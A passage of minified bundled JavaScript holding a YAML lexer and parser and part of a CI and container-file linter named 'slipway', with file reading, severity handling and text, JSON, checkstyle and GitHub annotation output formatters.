`)break}default:break e}if(!s&&!this.atEnd)return this.setNext("block-scalar");if(t>=this.indentNext){this.blockScalarIndent===-1?this.indentNext=t:this.indentNext=this.blockScalarIndent+(this.indentNext===0?1:this.indentNext);do{let r=this.continueScalar(e+1);if(r===-1)break;e=this.buffer.indexOf(`
`,r)}while(e!==-1);if(e===-1){if(!this.atEnd)return this.setNext("block-scalar");e=this.buffer.length}}let i=e+1;for(s=this.buffer[i];s===" ";)s=this.buffer[++i];if(s==="	"){for(;s==="	"||s===" "||s==="\r"||s===`
`;)s=this.buffer[++i];e=i-1}else if(!this.blockScalarKeep)do{let r=e-1,o=this.buffer[r];o==="\r"&&(o=this.buffer[--r]);let a=r;for(;o===" ";)o=this.buffer[--r];if(o===`
`&&r>=this.pos&&r+1+t>a)e=r;else break}while(!0);return yield Ei.SCALAR,yield*this.pushToIndex(e+1,!0),yield*this.parseLineStart()}*parsePlainScalar(){let e=this.flowLevel>0,t=this.pos-1,s=this.pos-1,i;for(;i=this.buffer[++s];)if(i===":"){let r=this.buffer[s+1];if(mt(r)||e&&ha.has(r))break;t=s}else if(mt(i)){let r=this.buffer[s+1];if(i==="\r"&&(r===`
`?(s+=1,i=`
`,r=this.buffer[s+1]):t=s),r==="#"||e&&ha.has(r))break;if(i===`
`){let o=this.continueScalar(s+1);if(o===-1)break;s=Math.max(s,o-2)}}else{if(e&&ha.has(i))break;t=s}return!i&&!this.atEnd?this.setNext("plain-scalar"):(yield Ei.SCALAR,yield*this.pushToIndex(t+1,!0),e?"flow":"doc")}*pushCount(e){return e>0?(yield this.buffer.substr(this.pos,e),this.pos+=e,e):0}*pushToIndex(e,t){let s=this.buffer.slice(this.pos,e);return s?(yield s,this.pos+=s.length,s.length):(t&&(yield""),0)}*pushIndicators(){let e=0;e:for(;;){switch(this.charAt(0)){case"!":e+=yield*this.pushTag(),e+=yield*this.pushSpaces(!0);continue e;case"&":e+=yield*this.pushUntil(ap),e+=yield*this.pushSpaces(!0);continue e;case"-":case"?":case":":{let t=this.flowLevel>0,s=this.charAt(1);if(mt(s)||t&&ha.has(s)){t?this.flowKey&&(this.flowKey=!1):this.indentNext=this.indentValue+1,e+=yield*this.pushCount(1),e+=yield*this.pushSpaces(!0);continue e}}}break e}return e}*pushTag(){if(this.charAt(1)==="<"){let e=this.pos+2,t=this.buffer[e];for(;!mt(t)&&t!==">";)t=this.buffer[++e];return yield*this.pushToIndex(t===">"?e+1:e,!1)}else{let e=this.pos+1,t=this.buffer[e];for(;t;)if(zE.has(t))t=this.buffer[++e];else if(t==="%"&&Rb.has(this.buffer[e+1])&&Rb.has(this.buffer[e+2]))t=this.buffer[e+=3];else break;return yield*this.pushToIndex(e,!1)}}*pushNewline(){let e=this.buffer[this.pos];return e===`
`?yield*this.pushCount(1):e==="\r"&&this.charAt(1)===`
`?yield*this.pushCount(2):0}*pushSpaces(e){let t=this.pos-1,s;do s=this.buffer[++t];while(s===" "||e&&s==="	");let i=t-this.pos;return i>0&&(yield this.buffer.substr(this.pos,i),this.pos=t),i}*pushUntil(e){let t=this.pos,s=this.buffer[t];for(;!e(s);)s=this.buffer[++t];return yield*this.pushToIndex(t,!1)}};Ob.Lexer=cp});var pp=D(Sb=>{"use strict";var up=class{constructor(){this.lineStarts=[],this.addNewLine=e=>this.lineStarts.push(e),this.linePos=e=>{let t=0,s=this.lineStarts.length;for(;t<s;){let r=t+s>>1;this.lineStarts[r]<e?t=r+1:s=r}if(this.lineStarts[t]===e)return{line:t+1,col:1};if(t===0)return{line:0,col:e};let i=this.lineStarts[t-1];return{line:t,col:e-i+1}}}};Sb.LineCounter=up});var fp=D(_b=>{"use strict";var JE=require("process"),Mb=fa(),XE=lp();function tn(n,e){for(let t=0;t<n.length;++t)if(n[t].type===e)return!0;return!1}function Ab(n){for(let e=0;e<n.length;++e)switch(n[e].type){case"space":case"comment":case"newline":break;default:return e}return-1}function Eb(n){switch(n?.type){case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":case"flow-collection":return!0;default:return!1}}function ma(n){switch(n.type){case"document":return n.start;case"block-map":{let e=n.items[n.items.length-1];return e.sep??e.start}case"block-seq":return n.items[n.items.length-1].start;default:return[]}}function ws(n){if(n.length===0)return[];let e=n.length;e:for(;--e>=0;)switch(n[e].type){case"doc-start":case"explicit-key-ind":case"map-value-ind":case"seq-item-ind":case"newline":break e}for(;n[++e]?.type==="space";);return n.splice(e,n.length)}function ga(n,e){if(e.length<1e5)Array.prototype.push.apply(n,e);else for(let t=0;t<e.length;++t)n.push(e[t])}function Nb(n){if(n.start.type==="flow-seq-start")for(let e of n.items)e.sep&&!e.value&&!tn(e.start,"explicit-key-ind")&&!tn(e.sep,"map-value-ind")&&(e.key&&(e.value=e.key),delete e.key,Eb(e.value)?e.value.end?ga(e.value.end,e.sep):e.value.end=e.sep:ga(e.start,e.sep),delete e.sep)}var dp=class{constructor(e){this.atNewLine=!0,this.atScalar=!1,this.indent=0,this.offset=0,this.onKeyLine=!1,this.stack=[],this.source="",this.type="",this.lexer=new XE.Lexer,this.onNewLine=e}*parse(e,t=!1){this.onNewLine&&this.offset===0&&this.onNewLine(0);for(let s of this.lexer.lex(e,t))yield*this.next(s);t||(yield*this.end())}*next(e){if(this.source=e,JE.env.LOG_TOKENS&&console.log("|",Mb.prettyToken(e)),this.atScalar){this.atScalar=!1,yield*this.step(),this.offset+=e.length;return}let t=Mb.tokenType(e);if(t)if(t==="scalar")this.atNewLine=!1,this.atScalar=!0,this.type="scalar";else{switch(this.type=t,yield*this.step(),t){case"newline":this.atNewLine=!0,this.indent=0,this.onNewLine&&this.onNewLine(this.offset+e.length);break;case"space":this.atNewLine&&e[0]===" "&&(this.indent+=e.length);break;case"explicit-key-ind":case"map-value-ind":case"seq-item-ind":this.atNewLine&&(this.indent+=e.length);break;case"doc-mode":case"flow-error-end":return;default:this.atNewLine=!1}this.offset+=e.length}else{let s=`Not a YAML token: ${e}`;yield*this.pop({type:"error",offset:this.offset,message:s,source:e}),this.offset+=e.length}}*end(){for(;this.stack.length>0;)yield*this.pop()}get sourceToken(){return{type:this.type,offset:this.offset,indent:this.indent,source:this.source}}*step(){let e=this.peek(1);if(this.type==="doc-end"&&e?.type!=="doc-end"){for(;this.stack.length>0;)yield*this.pop();this.stack.push({type:"doc-end",offset:this.offset,source:this.source});return}if(!e)return yield*this.stream();switch(e.type){case"document":return yield*this.document(e);case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":return yield*this.scalar(e);case"block-scalar":return yield*this.blockScalar(e);case"block-map":return yield*this.blockMap(e);case"block-seq":return yield*this.blockSequence(e);case"flow-collection":return yield*this.flowCollection(e);case"doc-end":return yield*this.documentEnd(e)}yield*this.pop()}peek(e){return this.stack[this.stack.length-e]}*pop(e){let t=e??this.stack.pop();if(!t)yield{type:"error",offset:this.offset,source:"",message:"Tried to pop an empty stack"};else if(this.stack.length===0)yield t;else{let s=this.peek(1);switch(t.type==="block-scalar"?t.indent="indent"in s?s.indent:0:t.type==="flow-collection"&&s.type==="document"&&(t.indent=0),t.type==="flow-collection"&&Nb(t),s.type){case"document":s.value=t;break;case"block-scalar":s.props.push(t);break;case"block-map":{let i=s.items[s.items.length-1];if(i.value){s.items.push({start:[],key:t,sep:[]}),this.onKeyLine=!0;return}else if(i.sep)i.value=t;else{Object.assign(i,{key:t,sep:[]}),this.onKeyLine=!i.explicitKey;return}break}case"block-seq":{let i=s.items[s.items.length-1];i.value?s.items.push({start:[],value:t}):i.value=t;break}case"flow-collection":{let i=s.items[s.items.length-1];!i||i.value?s.items.push({start:[],key:t,sep:[]}):i.sep?i.value=t:Object.assign(i,{key:t,sep:[]});return}default:yield*this.pop(),yield*this.pop(t)}if((s.type==="document"||s.type==="block-map"||s.type==="block-seq")&&(t.type==="block-map"||t.type==="block-seq")){let i=t.items[t.items.length-1];i&&!i.sep&&!i.value&&i.start.length>0&&Ab(i.start)===-1&&(t.indent===0||i.start.every(r=>r.type!=="comment"||r.indent<t.indent))&&(s.type==="document"?s.end=i.start:s.items.push({start:i.start}),t.items.splice(-1,1))}}}*stream(){switch(this.type){case"directive-line":yield{type:"directive",offset:this.offset,source:this.source};return;case"byte-order-mark":case"space":case"comment":case"newline":yield this.sourceToken;return;case"doc-mode":case"doc-start":{let e={type:"document",offset:this.offset,start:[]};this.type==="doc-start"&&e.start.push(this.sourceToken),this.stack.push(e);return}}yield{type:"error",offset:this.offset,message:`Unexpected ${this.type} token in YAML stream`,source:this.source}}*document(e){if(e.value)return yield*this.lineEnd(e);switch(this.type){case"doc-start":{Ab(e.start)!==-1?(yield*this.pop(),yield*this.step()):e.start.push(this.sourceToken);return}case"anchor":case"tag":case"space":case"comment":case"newline":e.start.push(this.sourceToken);return}let t=this.startBlockValue(e);t?this.stack.push(t):yield{type:"error",offset:this.offset,message:`Unexpected ${this.type} token in YAML document`,source:this.source}}*scalar(e){if(this.type==="map-value-ind"){let t=ma(this.peek(2)),s=ws(t),i;e.end?(i=e.end,i.push(this.sourceToken),delete e.end):i=[this.sourceToken];let r={type:"block-map",offset:e.offset,indent:e.indent,items:[{start:s,key:e,sep:i}]};this.onKeyLine=!0,this.stack[this.stack.length-1]=r}else yield*this.lineEnd(e)}*blockScalar(e){switch(this.type){case"space":case"comment":case"newline":e.props.push(this.sourceToken);return;case"scalar":if(e.source=this.source,this.atNewLine=!0,this.indent=0,this.onNewLine){let t=this.source.indexOf(`
`)+1;for(;t!==0;)this.onNewLine(this.offset+t),t=this.source.indexOf(`
`,t)+1}yield*this.pop();break;default:yield*this.pop(),yield*this.step()}}*blockMap(e){let t=e.items[e.items.length-1];switch(this.type){case"newline":if(this.onKeyLine=!1,t.value){let s="end"in t.value?t.value.end:void 0;(Array.isArray(s)?s[s.length-1]:void 0)?.type==="comment"?s?.push(this.sourceToken):e.items.push({start:[this.sourceToken]})}else t.sep?t.sep.push(this.sourceToken):t.start.push(this.sourceToken);return;case"space":case"comment":if(t.value)e.items.push({start:[this.sourceToken]});else if(t.sep)t.sep.push(this.sourceToken);else{if(this.atIndentedComment(t.start,e.indent)){let i=e.items[e.items.length-2]?.value?.end;if(Array.isArray(i)){ga(i,t.start),i.push(this.sourceToken),e.items.pop();return}}t.start.push(this.sourceToken)}return}if(this.indent>=e.indent){let s=!this.onKeyLine&&this.indent===e.indent,i=s&&(t.sep||t.explicitKey)&&this.type!=="seq-item-ind",r=[];if(i&&t.sep&&!t.value){let o=[];for(let a=0;a<t.sep.length;++a){let c=t.sep[a];switch(c.type){case"newline":o.push(a);break;case"space":break;case"comment":c.indent>e.indent&&(o.length=0);break;default:o.length=0}}o.length>=2&&(r=t.sep.splice(o[1]))}switch(this.type){case"anchor":case"tag":i||t.value?(r.push(this.sourceToken),e.items.push({start:r}),this.onKeyLine=!0):t.sep?t.sep.push(this.sourceToken):t.start.push(this.sourceToken);return;case"explicit-key-ind":!t.sep&&!t.explicitKey?(t.start.push(this.sourceToken),t.explicitKey=!0):i||t.value?(r.push(this.sourceToken),e.items.push({start:r,explicitKey:!0})):this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:[this.sourceToken],explicitKey:!0}]}),this.onKeyLine=!0;return;case"map-value-ind":if(t.explicitKey)if(t.sep)if(t.value)e.items.push({start:[],key:null,sep:[this.sourceToken]});else if(tn(t.sep,"map-value-ind"))this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:r,key:null,sep:[this.sourceToken]}]});else if(Eb(t.key)&&!tn(t.sep,"newline")){let o=ws(t.start),a=t.key,c=t.sep;c.push(this.sourceToken),delete t.key,delete t.sep,this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:o,key:a,sep:c}]})}else r.length>0?t.sep=t.sep.concat(r,this.sourceToken):t.sep.push(this.sourceToken);else if(tn(t.start,"newline"))Object.assign(t,{key:null,sep:[this.sourceToken]});else{let o=ws(t.start);this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:o,key:null,sep:[this.sourceToken]}]})}else t.sep?t.value||i?e.items.push({start:r,key:null,sep:[this.sourceToken]}):tn(t.sep,"map-value-ind")?this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:[],key:null,sep:[this.sourceToken]}]}):t.sep.push(this.sourceToken):Object.assign(t,{key:null,sep:[this.sourceToken]});this.onKeyLine=!0;return;case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":{let o=this.flowScalar(this.type);i||t.value?(e.items.push({start:r,key:o,sep:[]}),this.onKeyLine=!0):t.sep?this.stack.push(o):(Object.assign(t,{key:o,sep:[]}),this.onKeyLine=!0);return}default:{let o=this.startBlockValue(e);if(o){if(o.type==="block-seq"){if(!t.explicitKey&&t.sep&&!tn(t.sep,"newline")){yield*this.pop({type:"error",offset:this.offset,message:"Unexpected block-seq-ind on same line with key",source:this.source});return}}else s&&e.items.push({start:r});this.stack.push(o);return}}}}yield*this.pop(),yield*this.step()}*blockSequence(e){let t=e.items[e.items.length-1];switch(this.type){case"newline":if(t.value){let s="end"in t.value?t.value.end:void 0;(Array.isArray(s)?s[s.length-1]:void 0)?.type==="comment"?s?.push(this.sourceToken):e.items.push({start:[this.sourceToken]})}else t.start.push(this.sourceToken);return;case"space":case"comment":if(t.value)e.items.push({start:[this.sourceToken]});else{if(this.atIndentedComment(t.start,e.indent)){let i=e.items[e.items.length-2]?.value?.end;if(Array.isArray(i)){ga(i,t.start),i.push(this.sourceToken),e.items.pop();return}}t.start.push(this.sourceToken)}return;case"anchor":case"tag":if(t.value||this.indent<=e.indent)break;t.start.push(this.sourceToken);return;case"seq-item-ind":if(this.indent!==e.indent)break;t.value||tn(t.start,"seq-item-ind")?e.items.push({start:[this.sourceToken]}):t.start.push(this.sourceToken);return}if(this.indent>e.indent){let s=this.startBlockValue(e);if(s){this.stack.push(s);return}}yield*this.pop(),yield*this.step()}*flowCollection(e){let t=e.items[e.items.length-1];if(this.type==="flow-error-end"){let s;do yield*this.pop(),s=this.peek(1);while(s?.type==="flow-collection")}else if(e.end.length===0){switch(this.type){case"comma":case"explicit-key-ind":!t||t.sep?e.items.push({start:[this.sourceToken]}):t.start.push(this.sourceToken);return;case"map-value-ind":!t||t.value?e.items.push({start:[],key:null,sep:[this.sourceToken]}):t.sep?t.sep.push(this.sourceToken):Object.assign(t,{key:null,sep:[this.sourceToken]});return;case"space":case"comment":case"newline":case"anchor":case"tag":!t||t.value?e.items.push({start:[this.sourceToken]}):t.sep?t.sep.push(this.sourceToken):t.start.push(this.sourceToken);return;case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":{let i=this.flowScalar(this.type);!t||t.value?e.items.push({start:[],key:i,sep:[]}):t.sep?this.stack.push(i):Object.assign(t,{key:i,sep:[]});return}case"flow-map-end":case"flow-seq-end":e.end.push(this.sourceToken);return}let s=this.startBlockValue(e);s?this.stack.push(s):(yield*this.pop(),yield*this.step())}else{let s=this.peek(2);if(s.type==="block-map"&&(this.type==="map-value-ind"&&s.indent===e.indent||this.type==="newline"&&!s.items[s.items.length-1].sep))yield*this.pop(),yield*this.step();else if(this.type==="map-value-ind"&&s.type!=="flow-collection"){let i=ma(s),r=ws(i);Nb(e);let o=e.end.splice(1,e.end.length);o.push(this.sourceToken);let a={type:"block-map",offset:e.offset,indent:e.indent,items:[{start:r,key:e,sep:o}]};this.onKeyLine=!0,this.stack[this.stack.length-1]=a}else yield*this.lineEnd(e)}}flowScalar(e){if(this.onNewLine){let t=this.source.indexOf(`
`)+1;for(;t!==0;)this.onNewLine(this.offset+t),t=this.source.indexOf(`
`,t)+1}return{type:e,offset:this.offset,indent:this.indent,source:this.source}}startBlockValue(e){switch(this.type){case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":return this.flowScalar(this.type);case"block-scalar-header":return{type:"block-scalar",offset:this.offset,indent:this.indent,props:[this.sourceToken],source:""};case"flow-map-start":case"flow-seq-start":return{type:"flow-collection",offset:this.offset,indent:this.indent,start:this.sourceToken,items:[],end:[]};case"seq-item-ind":return{type:"block-seq",offset:this.offset,indent:this.indent,items:[{start:[this.sourceToken]}]};case"explicit-key-ind":{this.onKeyLine=!0;let t=ma(e),s=ws(t);return s.push(this.sourceToken),{type:"block-map",offset:this.offset,indent:this.indent,items:[{start:s,explicitKey:!0}]}}case"map-value-ind":{this.onKeyLine=!0;let t=ma(e),s=ws(t);return{type:"block-map",offset:this.offset,indent:this.indent,items:[{start:s,key:null,sep:[this.sourceToken]}]}}}return null}atIndentedComment(e,t){return this.type!=="comment"||this.indent<=t?!1:e.every(s=>s.type==="newline"||s.type==="space")}*documentEnd(e){this.type!=="doc-mode"&&(e.end?e.end.push(this.sourceToken):e.end=[this.sourceToken],this.type==="newline"&&(yield*this.pop()))}*lineEnd(e){switch(this.type){case"comma":case"doc-start":case"doc-end":case"flow-seq-end":case"flow-map-end":case"map-value-ind":yield*this.pop(),yield*this.step();break;case"newline":this.onKeyLine=!1;default:e.end?e.end.push(this.sourceToken):e.end=[this.sourceToken],this.type==="newline"&&(yield*this.pop())}}};_b.Parser=dp});var Tb=D($i=>{"use strict";var $b=Qu(),ZE=xi(),_i=Si(),QE=Xl(),e_=ee(),t_=pp(),Cb=fp();function Db(n){let e=n.prettyErrors!==!1;return{lineCounter:n.lineCounter||e&&new t_.LineCounter||null,prettyErrors:e}}function n_(n,e={}){let{lineCounter:t,prettyErrors:s}=Db(e),i=new Cb.Parser(t?.addNewLine),r=new $b.Composer(e),o=Array.from(r.compose(i.parse(n)));if(s&&t)for(let a of o)a.errors.forEach(_i.prettifyError(n,t)),a.warnings.forEach(_i.prettifyError(n,t));return o.length>0?o:Object.assign([],{empty:!0},r.streamInfo())}function Fb(n,e={}){let{lineCounter:t,prettyErrors:s}=Db(e),i=new Cb.Parser(t?.addNewLine),r=new $b.Composer(e),o=null;for(let a of r.compose(i.parse(n),!0,n.length))if(!o)o=a;else if(o.options.logLevel!=="silent"){o.errors.push(new _i.YAMLParseError(a.range.slice(0,2),"MULTIPLE_DOCS","Source contains multiple documents; please use YAML.parseAllDocuments()"));break}return s&&t&&(o.errors.forEach(_i.prettifyError(n,t)),o.warnings.forEach(_i.prettifyError(n,t))),o}function s_(n,e,t){let s;typeof e=="function"?s=e:t===void 0&&e&&typeof e=="object"&&(t=e);let i=Fb(n,t);if(!i)return null;if(i.warnings.forEach(r=>QE.warn(i.options.logLevel,r)),i.errors.length>0){if(i.options.logLevel!=="silent")throw i.errors[0];i.errors=[]}return i.toJS(Object.assign({reviver:s},t))}function i_(n,e,t){let s=null;if(typeof e=="function"||Array.isArray(e)?s=e:t===void 0&&e&&(t=e),typeof t=="string"&&(t=t.length),typeof t=="number"){let i=Math.round(t);t=i<1?void 0:i>8?{indent:8}:{indent:i}}if(n===void 0){let{keepUndefined:i}=t??e??{};if(!i)return}return e_.isDocument(n)&&!s?n.toString(t):new ZE.Document(n,s,t).toString(t)}$i.parse=s_;$i.parseAllDocuments=n_;$i.parseDocument=Fb;$i.stringify=i_});var gt=D(oe=>{"use strict";var r_=Qu(),o_=xi(),a_=Du(),hp=Si(),c_=oi(),nn=ee(),l_=Xt(),u_=Re(),p_=Qt(),d_=en(),f_=fa(),h_=lp(),m_=pp(),g_=fp(),ya=Tb(),Lb=ni();oe.Composer=r_.Composer;oe.Document=o_.Document;oe.Schema=a_.Schema;oe.YAMLError=hp.YAMLError;oe.YAMLParseError=hp.YAMLParseError;oe.YAMLWarning=hp.YAMLWarning;oe.Alias=c_.Alias;oe.isAlias=nn.isAlias;oe.isCollection=nn.isCollection;oe.isDocument=nn.isDocument;oe.isMap=nn.isMap;oe.isNode=nn.isNode;oe.isPair=nn.isPair;oe.isScalar=nn.isScalar;oe.isSeq=nn.isSeq;oe.Pair=l_.Pair;oe.Scalar=u_.Scalar;oe.YAMLMap=p_.YAMLMap;oe.YAMLSeq=d_.YAMLSeq;oe.CST=f_;oe.Lexer=h_.Lexer;oe.LineCounter=m_.LineCounter;oe.Parser=g_.Parser;oe.parse=ya.parse;oe.parseAllDocuments=ya.parseAllDocuments;oe.parseDocument=ya.parseDocument;oe.stringify=ya.stringify;oe.visit=Lb.visit;oe.visitAsync=Lb.visitAsync});var U2={};Rk(U2,{getInput:()=>dn,markdownCell:()=>Ja,outputEntry:()=>mk,runAction:()=>gk});module.exports=Ok(U2);var hk=require("node:crypto"),tt=ie(require("node:fs")),he=ie(require("node:path"));var nc={error:0,warning:1,info:2,hint:3},of={trustedRegistries:[],runnerLabels:[],labelSchema:{},strictLabels:!1,buildArgs:{}},Sk="https://github.com/slipway-dev/slipway/blob/main/docs/rules/";function Pn(n){return`${Sk}${n}.md`}var rf=new WeakMap;function af(n){let e=rf.get(n);if(!e){let t=[n.id,n.compat?.hadolint,n.compat?.buildkit,n.compat?.actionlint,...n.aliases??[]],s=Object.freeze([...new Set(t.filter(i=>!!i))]);e={ids:s,lower:Object.freeze(s.map(i=>i.toLowerCase()))},rf.set(n,e)}return e}function cf(n){return af(n).ids}function jn(n){return af(n).lower}function qn(){return{severities:new Map,enabled:new Set,options:{...of},failureThreshold:"error"}}var Mk={error:"error",warning:"warning",warn:"warning",info:"info",information:"info",hint:"hint",style:"hint",off:"off",none:"off",ignore:"off"};function Un(n){if(typeof n=="string")return Mk[n.trim().toLowerCase()]}function Ts(n,e){let t=new Map(n.severities);for(let[i,r]of e.severities??[])t.set(i.toLowerCase(),r);let s=new Set(n.enabled);for(let i of e.enabled??[])s.add(i.toLowerCase());return{severities:t,enabled:s,options:{...n.options,...e.options??{}},failureThreshold:e.failureThreshold??n.failureThreshold}}var Ke=ie(require("node:fs")),Hn=4,uf=1024*1024;function gn(n){return Math.floor(n*uf)}function sc(n){return`${Number((n/uf).toPrecision(3))} MB`}function nr(n){if(!n.isFile())return n.isDirectory()?"a directory":n.isFIFO()?"a FIFO":n.isSocket()?"a socket":n.isCharacterDevice()?"a character device":n.isBlockDevice()?"a block device":n.isSymbolicLink()?"a symbolic link":"not a regular file"}function Ls(n){let e=n.code;switch(e){case"ENOENT":case"ENOTDIR":return{error:"no such file or directory",reason:"missing"};case"EACCES":case"EPERM":return{error:"permission denied",reason:"unreadable"};case"ELOOP":return{error:"too many levels of symbolic links",reason:"unreadable"};case"EISDIR":return{error:"not a regular file (a directory)",reason:"not-regular"};default:return{error:`cannot read (${e??n.message})`,reason:"unreadable"}}}var Ak=Ke.constants.O_RDONLY|(Ke.constants.O_NONBLOCK??0);function yn(n,e,t=!1){let s;try{s=Ke.statSync(n)}catch(o){return Ls(o)}let i=nr(s);if(i)return{error:`not a regular file (${i})`,reason:"not-regular"};let r;try{r=Ke.openSync(n,Ak)}catch(o){return Ls(o)}try{let o=Ke.fstatSync(r),a=nr(o);if(a)return{error:`not a regular file (${a})`,reason:"not-regular"};if(o.size>e&&!t)return lf(o.size,e);let c=[],l=0,u=Math.max(o.size+1,64*1024);for(;l<=e;){let d=Buffer.allocUnsafe(Math.min(u,e+1-l)),f=Ke.readSync(r,d,0,d.length,null);if(f===0)break;c.push(f===d.length?d:d.subarray(0,f)),l+=f,u=64*1024}let p=Buffer.concat(c,l);return l>e?t?{text:p.toString("utf8",0,e)}:lf(void 0,e):{text:p.toString("utf8")}}catch(o){return Ls(o)}finally{Ke.closeSync(r)}}function lf(n,e){let t=sc(e);return{error:`too large:${n===void 0?"":sc(n)===t?` ${n} bytes,`:` ${sc(n)},`} over the ${t} limit (max-file-size)`,reason:"too-large"}}var Wn=ie(require("node:path"));function Bn(n,e){return n.display??sr(n.path,e)}var Nk={error:"\x1B[31m",warning:"\x1B[33m",info:"\x1B[36m",hint:"\x1B[2m"};function sr(n,e){let t=Wn.relative(e,n);return t&&!t.startsWith("..")&&!Wn.isAbsolute(t)?t.split(Wn.sep).join("/"):n}var Ek=/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g,_k={"\n":"\\n","\r":"\\r","	":"\\t"};function Yn(n){return n.replace(Ek,e=>_k[e]??(e.charCodeAt(0)<=255?`\\x${e.charCodeAt(0).toString(16).padStart(2,"0")}`:`\\u${e.charCodeAt(0).toString(16).padStart(4,"0")}`)).replace(/##\[/g,"##\\x5b")}function $k(n,e){let t=Yn(Bn(n,e));return/^[\s:]/.test(t)?`./${t}`:t}function pf(n,e,t){let s=[];for(let i of n){let r=$k(i,e);i.error&&s.push(`${r}: error: ${Yn(i.error)}`);for(let o of i.findings){let a=t?`${Nk[o.severity]}${o.severity}\x1B[0m`:o.severity;s.push(`${r}:${o.range.start.line+1}:${o.range.start.character+1}: ${a} ${Yn(o.message)} [${Yn(o.rule)}]`)}}return s.push(ic(n)),s.join(`
`)+`
`}function ic(n){let e={error:0,warning:0,info:0,hint:0};for(let i of n)for(let r of i.findings)e[r.severity]++;let t=e.error+e.warning+e.info+e.hint,s=`${n.length} file${n.length===1?"":"s"} checked`;return t===0?`${s}, no problems`:`${s}: ${e.error} error${e.error===1?"":"s"}, ${e.warning} warning${e.warning===1?"":"s"}, ${e.info} info, ${e.hint} hint${e.hint===1?"":"s"}`}function df(n,e){let t=n.map(s=>({file:Bn(s,e),language:s.language,...s.error?{error:s.error}:{},findings:s.findings.map(i=>({rule:i.rule,severity:i.severity,message:i.message,line:i.range.start.line+1,column:i.range.start.character+1,endLine:i.range.end.line+1,endColumn:i.range.end.character+1,docs:Pn(i.rule),fixable:!!i.fixes?.length}))}));return rc(t)}function rc(n){return JSON.stringify(n,null,2).replace(/[\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g,e=>`\\u${e.charCodeAt(0).toString(16).padStart(4,"0")}`).replace(/##\[/g,"##\\u005b")+`
`}var Ck={error:"error",warning:"warning",info:"info",hint:"info"};function Dk(n){let e="";for(let t of n){let s=t.codePointAt(0);t==="&"?e+="&amp;":t==="<"?e+="&lt;":t===">"?e+="&gt;":t==='"'?e+="&quot;":t==="'"?e+="&apos;":s===9?e+="&#9;":s===10?e+="&#10;":s===13?e+="&#13;":s<32||s>=55296&&s<=57343||s===65534||s===65535?e+="\uFFFD":s>=127&&s<=159||s===8232||s===8233||s>=8234&&s<=8238||s>=8294&&s<=8297?e+=`&#x${s.toString(16)};`:t==="["&&e.endsWith("##")?e+="&#91;":e+=t}return e}function Is(n){return n.map(([e,t])=>`${e}="${Dk(String(t))}"`).join(" ")}function ff(n,e){let t=['<?xml version="1.0" encoding="UTF-8"?>','<checkstyle version="4.3">'];for(let s of e.errors)t.push(`  <file ${Is([["name",""]])}>`,`    <error ${Is([["line",1],["column",1],["severity","error"],["message",s],["source","slipway"]])}/>`,"  </file>");for(let s of n){t.push(`  <file ${Is([["name",Bn(s,e.cwd)]])}>`),s.error&&t.push(`    <error ${Is([["line",1],["column",1],["severity","error"],["message",`cannot read: ${s.error}`],["source","slipway"]])}/>`);for(let i of s.findings)t.push(`    <error ${Is([["line",i.range.start.line+1],["column",i.range.start.character+1],["severity",Ck[i.severity]],["message",i.message],["source",i.rule]])}/>`);t.push("  </file>")}return t.push("</checkstyle>"),t.join(`
`)+`
`}var Fk={error:"error",warning:"warning",info:"notice",hint:"notice"};function Gn(n){return n.replace(/%/g,"%25").replace(/\r/g,"%0D").replace(/\n/g,"%0A")}function Tk(n){return Gn(n).replace(/:/g,"%3A").replace(/,/g,"%2C")}function oc(n,e,t){let s=e.map(([i,r])=>`${i}=${Tk(String(r))}`).join(",");return`::${n}${s?" "+s:""}::${Gn(t)}`}function hf(n,e){let t=[];for(let s of e.errors)t.push(oc("error",[["title","Slipway"]],s));for(let s of n){let i=Bn(s,e.cwd);s.error&&t.push(oc("error",[["file",i],["title","Slipway"]],`cannot read ${i}: ${s.error}`));for(let r of s.findings){let{start:o,end:a}=r.range,l=a.line>o.line||a.line===o.line&&a.character>=o.character?a:o;t.push(oc(Fk[r.severity],[["file",i],["line",o.line+1],["col",o.character+1],["endLine",l.line+1],["endColumn",l.character+1],["title",`${r.rule} (Slipway)`]],`${r.message}
${Pn(r.rule)}`))}}return t.push(ic(n)),t.join(`
`)+`
`}var Ji=ie(require("node:path")),sd=require("node:url");var Ga=ie(require("node:fs"));function Lk(n){let e=[0];for(let t=0;t<n.length;t++){let s=n.charCodeAt(t);s===13?(n.charCodeAt(t+1)===10&&t++,e.push(t+1)):s===10&&e.push(t+1)}return e}var Vn=class{constructor(e){this.text=e;this.starts=Lk(e)}text;starts;get lineCount(){return this.starts.length}positionAt(e){e=Math.max(0,Math.min(e,this.text.length));let t=0,s=this.starts.length-1;for(;t<s;){let i=t+s+1>>1;this.starts[i]<=e?t=i:s=i-1}return{line:t,character:e-this.starts[t]}}offsetAt(e){if(e.line>=this.starts.length)return this.text.length;if(e.line<0)return 0;let t=this.starts[e.line],s=e.line+1<this.starts.length?this.starts[e.line+1]:this.text.length;return Math.min(t+e.character,s)}range(e,t){return{start:this.positionAt(e),end:this.positionAt(t)}}lineText(e){let t=this.starts[e];if(t===void 0)return"";let s=e+1<this.starts.length?this.starts[e+1]:this.text.length;for(;s>t&&(this.text.charCodeAt(s-1)===10||this.text.charCodeAt(s-1)===13);)s--;return this.text.slice(t,s)}};function ir(n,e,t){return{start:{line:n,character:e},end:{line:n,character:t}}}function Ps(n,e){return n.line-e.line||n.character-e.character}function Ik(n,e,t=1/0){if(Math.abs(n.length-e.length)>t)return t+1;let s=new Array(e.length+1),i=new Array(e.length+1);for(let r=0;r<=e.length;r++)s[r]=r;for(let r=1;r<=n.length;r++){i[0]=r;let o=i[0];for(let a=1;a<=e.length;a++){let c=n.charCodeAt(r-1)===e.charCodeAt(a-1)?0:1;i[a]=Math.min(s[a]+1,i[a-1]+1,s[a-1]+c),i[a]<o&&(o=i[a])}if(o>t)return 